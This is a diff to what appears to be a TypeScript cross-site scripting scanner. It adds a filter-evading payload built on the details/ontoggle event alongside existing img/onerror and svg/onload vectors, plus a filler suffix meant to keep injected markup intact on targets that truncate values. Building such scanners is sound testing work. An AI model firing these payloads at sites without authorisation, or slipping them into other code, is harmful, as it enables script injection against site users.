@@ -31,6 +31,8 @@ export function pressing(word: string): string {
 
 /** Sends no request: an empty `src` fails at once. Has no spaces, where some targets cut values. */
 export const MARKUP = '<img/src/onerror=CALL>';
+/** With other names of tag and attribute. */
+const OTHER_MARKUP = '<details/open/ontoggle=CALL>';
 /** A shorter one for paths, with fewer slashes. */
 const PATH_MARKUP = '<svg/onload=CALL>';
 
@@ -53,6 +55,13 @@ const MOST_SURVIVED = 200;
  */
 export const oddValue = (word: string) => `${word}a${ODD}${word}b`;
 
+/** Follows a value, for targets that cut or replace its end. Without a meaning in any context of markup. */
+export const FILLER = 'zz';
+
+/** Returns the payload with a filler, so that a target that cuts its end leaves the markup whole. */
+export const withFiller = (payload: Payload): Payload =>
+  payload.text.endsWith('>') ? { ...payload, text: payload.text + FILLER } : payload;
+
 /** Returns the payloads worth trying on a page that reflects the probe, most likely first, without duplicates. */
 export function payloadsFor(html: string, word: string): Payload[] {
   const payloads = contextsOf(html, `${word}a`).flatMap(({ context, rest }) => {
@@ -71,7 +80,9 @@ function payloadsIn(context: Context, survived: string): Payload[] {
 }
 
 type Has = (characters: string) => boolean;
-const markupAfter = (end: string, has: Has): Payload[] => (has('<>') ? [{ text: end + MARKUP }] : []);
+/** Filters that remove tags know some of them only. */
+const markupAfter = (end: string, has: Has): Payload[] =>
+  has('<>') ? [MARKUP, OTHER_MARKUP].map((markup) => ({ text: end + markup })) : [];
 
 const ADDRESSES = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href']);
 /** These load their URL by themselves; other elements need a click. */
